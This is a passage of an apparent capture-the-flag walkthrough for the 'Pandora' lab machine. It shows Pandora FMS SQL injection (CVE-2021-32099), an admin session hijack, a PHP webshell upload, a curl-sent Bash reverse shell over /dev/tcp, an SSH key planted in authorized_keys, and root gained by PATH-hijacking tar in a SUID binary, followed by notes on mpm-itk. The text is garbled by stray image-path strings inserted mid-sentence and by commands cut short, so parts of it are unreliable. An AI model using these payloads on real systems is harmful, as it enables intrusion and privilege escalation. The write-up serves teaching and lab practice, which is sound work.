Content-Type: application/x-www-form-urlencoded; charset=UTF-8
X-Requested-With: XMLHttpRequest
Content-Length: 2227
Origin:http://pandora.panda.htb:9001
Connection: close
Referer: http://pandora.panda.htb:9001/pandora_console/index.php?sec=eventos&sec2=operation/events/events
Cookie: PHPSESSID=g4e01qdgk36mfdh90hvcc54umq


I’ll send that request to Burp Repeater, and replace the payload with the much smaller one in the POC link. I’ll have to tweak it a bit to get it to work, but eventually I’ll end up with this:

POST /pandora_console/ajax.php HTTP/1.1
Host: pandora.panda.htb:9001
Cookie: PHPSESSID=g4e01qdgk36mfdh90hvcc54umq


On sending, I get a shell as matt:

oxdf@hacky$ nc -nvlp 443
Listening on 443
Connection received on 44100
bash: cannot set terminal process group (10969): Inappropriate ioctl for device
bash: no job control in this shell
matt@pandora:/var/www/pandora/pandora_console$ id
uid=1000(matt) gid=1000(matt) groups=1000(matt)

I’ll upgrade my shell:

matt@pandora:/var/www/pandora/pandora_console$ script /dev/null -c bash
script /dev/null -c bash
Script started, file is /dev/null
matt@pandora:/var/www/pandora/pandora_console$ ^Z
[1]+  Stopped                 nc -nvlp 443
oxdf@hacky$ stty raw -echo; fg
nc -nvlp 443
reset: unknown terminal type unknown
Terminal type? screenAnd grab user.txt:

matt@pandora:/home/matt$ cat user.txt

RCE #2: Admin Upload

This POC for CVE-2021-32099 (the SQL injection used above) shows this payload:

http://localhost:8000/pandora_console/include/chart_generator.php?session_id=PayloadHere%27%20union%20select%20%271%27,%272%27,%27id_usuario|s:5:%22admin%22;%27%20--%20a => Pandora FMS Graph ( - )

URL decoded that looks like:

PayloadHere' union select '1','2','id_usuario|s:5:"admin";' -- a

Effectively, this is querying the sessions table to find out what user I am, and injecting one of data that makes the application think I’m the admin user. If I do that, it actually sets a cookie that is the PHPSESSID for the admin user. I can simply visit that url, and then reload the main page, and it says I’m admin:There’s a lot more options on the left hand menu as well:


Upload Webshell

I’ll go to the File manager page though “Admin tools” > “File Manager”, and click the button to upload files. I’ll give it 0xdf.php, a simple PHP webshell:

<?php system($_REQUEST['cmd']); ?>

It accepts it:


And the file shows up in the list of files, in red, with a warning when I hover over it:


Clicking the link actually downloads the file, which isn’t what I want.

Find Webshell

The link to the file is /pandora_console/include/get_file.php?file=L3BhbmRvcmFfY29uc29sZS9pbWFnZXMvMHhkZi5waHA%3D&hash=fac31c21cdd95f26f4a11073d7828e2c. The file parameter looks like Base64, and it does decode to the file URL:

daniel@pandora:/var/www/pandora/pandora_console$ echo "L3BhbmRvcmFfY29uc29sZS9pbWFnZXMvMHhkZi5waHA=" | base64 -d

Alternatively, since I have a shell as daniel, I could just find the file:

daniel@pandora:/var/www/pandora/pandora_console$ find . -name 0xdf.php

Either way, the webshell works:

oxdf@hacky$ curl http://pandora.panda.htb:9001/pandora_console/images/0xdf.php?cmd=id
uid=1000(matt) gid=1000(matt) groups=1000(matt)


To get a shell, I’ll just send it a Bash reverse shell:

oxdf@hacky$ curl 'http://pandora.panda.htb:9001/pandora_console/images/0xdf.php?cmd=bash+-c+"bash+-i+>%26+/dev/tcp/>%261"'

That hangs, but at nc:oxdf@hacky$ nc -lnvp 443
Listening on 443
Connection received on 44650
bash: cannot set terminal process group (910): Inappropriate ioctl for device
bash: no job control in this shell


There’s a script from the SonarSource post authors that does all these steps for you on GitHub. Running it fetches the admin cookie, and then uploads a webshell, and runs commands through it:

oxdf@hacky$ python -t
[+] Sending Injection Payload
[+] Requesting Session[+] Admin Session Cookie : 3hif5avdqp1hms9fl52krjmrtb
[+] Sending Payload
[+] Respose : 200
[+] Pwned :)
[+] If you want manual Control :
CMD > id
uid=1000(matt) gid=1000(matt) groups=1000(matt)

Shell as root


There’s nothing else of interest in matt’s home directory. In looking around, a common check is to look for SUID binaries:

matt@pandora:/$ find / -perm -4000 -ls 2>/dev/null
   264644    164 -rwsr-xr-x   1 root     root       166056 Jan 19  2021 /usr/bin/sudo
   265010     32 -rwsr-xr-x   1 root     root        31032 May 26  2021 /usr/bin/pkexec
   267386     84 -rwsr-xr-x   1 root     root        85064 Jul 14  2021 /usr/bin/chfn
   262764     44 -rwsr-xr-x   1 root     root        44784 Jul 14  2021 /usr/bin/newgrp
   267389     88 -rwsr-xr-x   1 root     root        88464 Jul 14  2021 /usr/bin/gpasswd
   264713     40 -rwsr-xr-x   1 root     root        39144 Jul 21  2020 /usr/bin/umount
   262929     20 -rwsr-x---   1 root     matt        16816 Dec  3 15:58 /usr/bin/pandora_backup267390     68 -rwsr-xr-x   1 root     root        68208 Jul 14  2021 /usr/bin/passwd
   264371     56 -rwsr-xr-x   1 root     root        55528 Jul 21  2020 /usr/bin/mount
   264643     68 -rwsr-xr-x   1 root     root        67816 Jul 21  2020 /usr/bin/su
   264040     56 -rwsr-sr-x   1 daemon   daemon      55560 Nov 12  2018 /usr/bin/at
   264219     40 -rwsr-xr-x   1 root     root        39144 Mar  7  2020 /usr/bin/fusermount
   267387     52 -rwsr-xr-x   1 root     root        53040 Jul 14  2021 /usr/bin/chsh
   262815    464 -rwsr-xr-x   1 root     root       473576 Jul 23  2021 /usr/lib/openssh/ssh-keysign
   264920     52 -rwsr-xr--   1 root     messagebus    51344 Jun 11  2020 /usr/lib/dbus-1.0/dbus-daemon-launch-helper264927     16 -rwsr-xr-x   1 root     root          14488 Jul  8  2019 /usr/lib/eject/dmcrypt-get-device
   266611     24 -rwsr-xr-x   1 root     root          22840 May 26  2021 /usr/lib/policykit-1/polkit-agent-helper-1

/usr/bin/pandora_backup is definitely interesting.


Run pandora_backup

If I try to run pandora_backup from my current shell, it fails:

matt@pandora:/$ pandora_backup
PandoraFMS Backup UtilityNow attempting to backup PandoraFMS client
tar: /root/.backup/pandora-backup.tar.gz: Cannot open: Permission denied
tar: Error is not recoverable: exiting now
Backup failed!
Check your permissions!

There are some interesting errors (I’ll look at those below), but it seems to be failing to run as root even though it’s SUID.

Other SUID binaries fail as well:

matt@pandora:/$ sudo -l
sudo: PERM_ROOT: setresuid(0, -1, -1): Operation not permitted
sudo: unable to initialize policy plugin

I’ll dig into why this is failing in Beyond Root.

SSH as matt

I’ll drop my public key into /home/matt/.ssh/authorized_keys:matt@pandora:/home/matt/.ssh$ echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDIK/xSi58QvP1UqH+nBwpD1WQ7IaxiVdTpsg5U19G3d nobody@nothing" > authorized_keys

Now I can connect with SSH:

oxdf@hacky$ ssh -i ~/keys/ed25519_gen matt@

And sudo (and pandora_backup) runs fine:

matt@pandora:~$ sudo -l
[sudo] password for matt:


Run It

I’ll run pandora_backup and see what happens:

matt@pandora:/$ pandora_backup
PandoraFMS Backup Utility
Now attempting to backup PandoraFMS client
tar: Removing leading `/' from member names
tar: Removing leading `/' from hard link targets
Backup successful!
Terminating program!

It’s doing a backup, with a long list of paths, all in /var/www/pandora. At the top it references tar a couple times, which suggests it’s using tar to compress/archive.


ltrace is installed on Pandora, so I’ll run pandora_backup through it. This will drop the SUID bit, but I can still see what it’s trying to do:

matt@pandora:~$ ltrace pandora_backup
getuid()                                         = 1000
geteuid()                                        = 1000
setreuid(1000, 1000)                             = 0puts("PandoraFMS Backup Utility"PandoraFMS Backup Utility
)                = 26
puts("Now attempting to backup Pandora"...Now attempting to backup PandoraFMS client
)      = 43
system("tar -cvf /root/.backup/pandora-b"...tar: /root/.backup/pandora-backup.tar.gz: Cannot open: Permission denied
tar: Error is not recoverable: exiting now
 <no return ...>
--- SIGCHLD (Child exited) ---
<... system resumed> )                           = 512
puts("Backup failed!\nCheck your permis"...Backup failed!
Check your permissions!
)     = 39
+++ exited (status 1) +++

It crashes because it doesn’t have permissions to /root/.backup/pandora-backup.tar.gz, which makes sense since ltrace drops the privs from SUID.

Still, I’ll note that it’s using system to call tar without a full path.


Because there’s no path given for tar, it will use the current user’s PATH environment variable to look for valid executables to run. But I can control that path, which makes this likely vulnerable to path hijack.

I’ll work from /dev/shm, and add that to the current user’s PATH:

matt@pandora:/dev/shm$ echo $PATH
matt@pandora:/dev/shm$ export PATH=/dev/shm:$PATH
matt@pandora:/dev/shm$ echo $PATH

Now the first place it will look for tar is /dev/shm.

For a malicious payload, I’ll keep it really simply:

matt@pandora:/dev/shm$ cat tarIt’s important to also make sure that tar is executable:

matt@pandora:/dev/shm$ chmod +x tar

Now I’ll run pandora_backup, and when it reaches the call to tar, I get a shell:

matt@pandora:/dev/shm$ pandora_backup
PandoraFMS Backup Utility
Now attempting to backup PandoraFMS client

And read the flag:

root@pandora:/root# cat root.txt

Beyond Root

Big thanks the jkr and TheCyberGeek, both of whom gave me some pointers to get started on digging in on this one.


I noted that when I got a shell exploiting Pandora FMS, any SetUID or SUID binaries I tried to run failed to run privileged. To dig in a bit, I’ll look at how Apache is configured.

The configuration for the Pandora site, /etc/apache2/sites-enabled/pandora.conf, specified that the site runsas user matt and group matt:

<VirtualHost localhost:80>
  ServerAdmin admin@panda.htb
  ServerName pandora.panda.htb
  DocumentRoot /var/www/pandora
  AssignUserID matt matt
  <Directory /var/www/pandora>
    AllowOverride All
  ErrorLog /var/log/apache2/error.log
  CustomLog /var/log/apache2/access.log combined

Having Apache run different virtual hosts as different users is not something Apache does on it’s own. If you are curious why Apache would need to do this at all, an earlier version of this box had another webserver used to get the initial shell.

Some Googling of “AssignedUserId Apache” leads to a bunch of stuff about the mpm-itk Apache module. For example, this guide, entitled Running Vhosts Under Separate UIDs/GIDs With Apache2 mpm-itk On Debian Etch.

The /etc/apache2/mods-enabled directory shows the various modules that are enabled,and mpm-itk is there (typically items in the *-enabled directories are symbolic links to items in the *-available directories):

root@pandora:/etc/apache2/mods-enabled# ls -l mpm_itk.load
lrwxrwxrwx 1 root root 30 Jun 11  2021 mpm_itk.load -> ../mods-available/mpm_itk.load

SUID Restrictions

Some Googling for the SetUID failures will turn up post like this one and this one, both of which mention the same issues and mpm-itk. For example, the latter includes this response:

The current version of mpm-itk installs a seccomp filter to prevent privilege escalation to root. This has the side effect that suid- binaries do not work when called by mpm-itk.

Looking at the details of mpm-itk here, there’s one bullet under “Configuration” that jumps out at me which may be related:

